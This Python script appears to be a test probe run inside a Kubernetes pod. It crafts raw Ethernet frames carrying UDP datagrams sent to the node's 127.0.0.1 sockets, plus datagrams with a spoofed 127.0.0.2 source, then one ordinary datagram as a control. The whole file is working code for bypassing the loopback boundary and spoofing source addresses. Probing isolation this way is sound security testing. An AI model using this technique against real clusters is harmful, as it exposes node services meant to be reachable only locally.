"""Run inside a pod: sends what only loopback may carry to the node, by frames of its own, then an ordinary datagram.

Arguments: the node's hardware address and address on the bridge, the ports of its sockets on 127.0.0.1 and on the bridge.
"""

import fcntl
import socket
import struct
import sys

INTERFACE = b"eth0"
HARDWARE_ADDRESS = 0x8927  # netdevice(7): SIOCGIFHWADDR
ADDRESS = 0x8915
IPV4 = 0x0800
UDP = 17


def asked(request: int) -> bytes:
    """Ask the kernel about the pod's interface."""
    with socket.socket(type=socket.SOCK_DGRAM) as any_socket:
        return fcntl.ioctl(any_socket, request, struct.pack("256s", INTERFACE))


def checksum(header: bytes) -> int:
    """Compute the checksum of an IPv4 header."""
    total: int = sum(struct.unpack(f"!{len(header) // 2}H", header))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def datagram(source: str, target: str, port: int, text: bytes) -> bytes:
    """Build an IPv4 packet with a UDP datagram."""
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    header = struct.pack("!BBHHHBBH", 0x45, 0, 28 + len(text), 1, 0, 64, UDP, 0) + addresses
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + struct.pack("!HHHH", 40000, port, 8 + len(text), 0) + text


def main() -> None:
    """Send each attack three times, then what any pod may send."""
    hardware, gateway, on_loopback, on_bridge = sys.argv[1:]
    own, me = asked(HARDWARE_ADDRESS)[18:24], socket.inet_ntoa(asked(ADDRESS)[20:24])
    frame = bytes.fromhex(hardware.replace(":", "")) + own + struct.pack("!H", IPV4)
    attacks = [
        datagram(me, "127.0.0.1", int(on_loopback), b"to the loopback"),
        datagram("127.0.0.2", gateway, int(on_bridge), b"from the loopback"),
    ]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((INTERFACE.decode(), 0))
        for packet in attacks * 3:
            wire.send(frame + packet)
        wire.send(frame + datagram(me, gateway, int(on_bridge), b"ordinary"))
    print(f"sent from {me}")


main()
